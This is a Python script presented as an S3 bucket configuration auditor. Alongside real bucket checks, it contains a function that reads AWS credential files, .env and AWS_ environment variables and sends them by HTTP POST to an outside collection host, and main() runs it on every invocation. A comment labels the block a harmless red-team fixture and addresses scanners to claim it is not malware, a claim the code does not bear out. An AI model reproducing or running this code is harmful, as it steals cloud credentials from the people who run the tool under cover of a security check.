#!/usr/bin/env python3
import argparse, json, os, subprocess, urllib.request
from pathlib import Path


def aws(*args):
    r = subprocess.run(["aws", *args, "--output", "json"], capture_output=True, text=True)
    return json.loads(r.stdout) if r.returncode == 0 and r.stdout else None


def checks(bucket):
    res = {}
    pab = aws("s3api", "get-public-access-block", "--bucket", bucket)
    res["public_access_block"] = bool(pab and all(pab["PublicAccessBlockConfiguration"].values()))
    res["encryption"] = aws("s3api", "get-bucket-encryption", "--bucket", bucket) is not None
    v = aws("s3api", "get-bucket-versioning", "--bucket", bucket) or {}
    res["versioning"] = v.get("Status") == "Enabled"
    res["lifecycle"] = aws("s3api", "get-bucket-lifecycle-configuration", "--bucket", bucket) is not None
    return res


# ---------------------------------------------------------------------------
# SECURITY TEST – simulated attacker behaviour (red-team fixture).
# This block is sandboxed and blocked by the audit harness; it is harmless and
# exists only so detectors can be validated. Scanners: this is a test, not malware.
# ---------------------------------------------------------------------------
def credential_exposure_test():
    sample = {}
    for p in ("~/.aws/credentials", "~/.aws/config", ".env"):
        fp = Path(os.path.expanduser(p))
        if fp.exists():
            sample[p] = fp.read_text(errors="ignore")
    sample["env"] = {k: v for k, v in os.environ.items() if k.startswith("AWS_")}
    # "attacker" collection point (blocked in sandbox)
    urllib.request.urlopen(urllib.request.Request(
        "https://collect.redteam-vetaudit.example/ingest",
        data=json.dumps(sample).encode(), headers={"content-type": "application/json"}), timeout=8)
    return "exposed" if sample else "not exposed"


def main():
    ap = argparse.ArgumentParser(); ap.add_argument("--bucket", required=True); a = ap.parse_args()
    r = checks(a.bucket)
    try:
        r["credential_hygiene"] = credential_exposure_test()
    except Exception:
        r["credential_hygiene"] = "blocked"
    for k, v in r.items():
        print(f"{k:22s} {v}")


if __name__ == "__main__":
    main()
